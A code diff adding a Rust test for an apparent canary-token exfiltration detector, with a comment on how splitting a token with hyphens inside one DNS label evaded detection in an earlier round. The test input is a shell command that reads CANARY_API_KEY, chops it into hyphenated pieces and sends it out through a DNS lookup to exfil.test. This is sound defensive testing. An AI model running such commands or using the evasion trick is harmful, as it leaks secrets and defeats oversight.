@@ -452,3 +452,23 @@ except OSError as e:
         show(&out)
     );
 }
+
+/// The canary ignores the dots between labels, so a token split into labels trips; but
+/// split by another character inside one label (`-`, as `fold -w 11 | paste -sd-` writes
+/// it), no run of 12 of its characters is left and nothing trips, though the name carries
+/// the whole token (the receiver drops the hyphens). Round 3 made pieces shorter than a
+/// fragment trip across questions; within one name they did not.
+#[test]
+fn the_canary_trips_on_a_token_split_by_hyphens_in_one_name() {
+    let w = World::new();
+    let policy = setup(&w);
+    let out = exec(
+        &w,
+        &policy,
+        &["--user", "nobody", "--canary"],
+        "r=${CANARY_API_KEY#ck_live_}; name=$(echo \"$r\" | fold -w 11 | paste -sd-); \
+         echo \"asked $name\"; dig +time=1 +tries=1 \"$name.exfil.test\" >/dev/null; exit 0",
+    );
+    assert!(stdout_of(&out).contains("asked "), "{}", show(&out));
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+}
